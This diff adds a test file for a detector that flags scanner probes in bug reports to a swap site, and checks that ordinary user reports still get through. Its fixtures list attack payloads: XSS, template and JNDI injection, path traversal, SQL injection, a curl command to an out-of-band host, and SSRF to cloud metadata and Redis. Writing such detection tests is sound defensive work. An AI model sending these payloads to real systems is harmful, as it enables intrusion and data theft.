@@ -1,0 +1,60 @@
+import { describe, expect, test } from 'vitest';
+import type { ReportAsk } from '../../contract/v1/report-bug.ts';
+import { probeSignals } from './probe-signals.ts';
+
+const siteUrl = 'https://swap.example';
+const report = (description: string, more: Partial<ReportAsk> = {}): ReportAsk => ({ description, type: 'bug', ...more });
+const image = { name: 'a.png', type: 'image/png', content: 'aaaa', bytes: 3 } as const;
+
+describe('what scanners send waits for a person', () => {
+  test.each<ReportAsk>([
+    report('<script>alert(1)</script>'),
+    report('"><img src=x onerror=alert(1)>'),
+    report('{{7*7}}'),
+    report('$' + '{7*7}'),
+    report('$' + '{jndi:ldap://x.example/a}'),
+    report('../../../../etc/passwd'),
+    report('..%2f and %2e%2e%2f%2e%2e%2fetc/passwd'),
+    report("' OR 1=1 --"),
+    report('1 UNION SELECT username, password FROM users'),
+    report('test; curl http://abc.oast.fun/'),
+    report('a | whoami'),
+    report('Please see this page', { page: 'http://169.254.169.254/latest/meta-data/' }),
+    report('x', { page: 'http://localhost:8080/admin' }),
+    report('file:///etc/hostname and gopher://127.0.0.1:6379/_INFO'),
+    report('Great. <script src=//x.example></script> {{constructor.constructor("x")()}}', { email: 'a@example.com' }),
+  ])('%j', (ask) => {
+    expect(probeSignals(ask, siteUrl)).not.toEqual([]);
+  });
+});
+
+describe('what people write is delivered', () => {
+  test.each<ReportAsk>([
+    report('It is broken'),
+    report('The quote page stays empty after I choose SOL.'),
+    report('no offers', { page: '/sell-btc-buy-eth' }),
+    report('Wrong fee', { page: 'https://swap.example/sell-btc?amount=1' }),
+    report('Show $5 {like this}, please; it costs <b> too much'),
+    report('The memo field shows <script> as text when I paste it into the destination, is that meant?', { email: 'a@example.com' }),
+    report('I typed ../../etc/passwd in the address bar and got a page without style. See the image.', { attachment: image }),
+    report(`I run the site behind a proxy. ${'It works, but the link to the docs goes to the wrong host. '.repeat(5)}`, {
+      page: 'http://10.0.0.5/docs',
+    }),
+    report('Please select the union of both networks by default'),
+  ])('%j', (ask) => {
+    expect(probeSignals(ask, siteUrl)).toEqual([]);
+  });
+
+  test('our own address is no private host, wherever it runs', () => {
+    expect(probeSignals(report('No offers', { page: 'http://localhost:4321/' }), 'http://localhost:4321')).toEqual([]);
+    expect(probeSignals(report('No offers', { page: 'http://localhost:4322/' }), 'http://localhost:4321')).not.toEqual([]);
+  });
+});
+
+test('the patterns stay quick on long hostile text', () => {
+  const started = performance.now();
+  for (const unit of ['{{', '${', "' or ", '../../', '<', 'a.'.repeat(5), '; ', '%2e']) {
+    probeSignals(report(unit.repeat(Math.floor(10_000 / unit.length)), { page: `https://${'a.'.repeat(900)}example` }), siteUrl);
+  }
+  expect(performance.now() - started).toBeLessThan(500);
+});
